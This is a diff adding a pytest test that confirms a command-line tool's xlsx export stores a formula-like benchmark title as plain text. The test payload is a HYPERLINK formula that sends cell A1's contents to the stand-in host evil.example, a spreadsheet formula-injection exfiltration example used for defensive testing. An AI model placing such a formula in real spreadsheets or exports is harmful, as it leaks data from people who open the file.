@@ -67,3 +67,38 @@ def test_id_arguments_take_ids_only(minimal_repo: Path, args: tuple[str, ...]) -
     result = summit(*line)
     assert result.exit_code == 2, result.output
     assert "is not an id: ids are lowercase letters, digits and hyphens" in result.stderr
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_xlsx_stores_every_record_text_as_text(tmp_path: Path) -> None:
+    """A benchmark title that reads as a formula is a text cell in every sheet; the
+    workbook's own recomputing formulas stay formulas."""
+    import shutil
+
+    from openpyxl import load_workbook
+
+    root = tmp_path / "repo"
+    shutil.copytree(Path(__file__).parent / "data" / "scores", root)
+    benchmark = root / "content" / "benchmarks" / "centre.yaml"
+    text = benchmark.read_text(encoding="utf-8")
+    title = "title: A centre set up and operating\n"
+    benchmark.write_text(text.replace(title, f"title: '{HYPERLINK}'\n"), encoding="utf-8")
+    out = tmp_path / "scores.xlsx"
+
+    result = summit("export", "xlsx", root, "-o", out)
+
+    assert result.exit_code == 0, result.output
+    book = load_workbook(out)
+    holding = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.value == HYPERLINK:
+                    holding.append(sheet.title)
+                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
+                elif isinstance(cell.value, str) and cell.value.startswith("="):
+                    assert sheet.title == "scores" and "SUMPRODUCT" in cell.value
+                    assert cell.data_type == "f"
+    assert sorted(set(holding)) == ["benchmarks", "weights"]
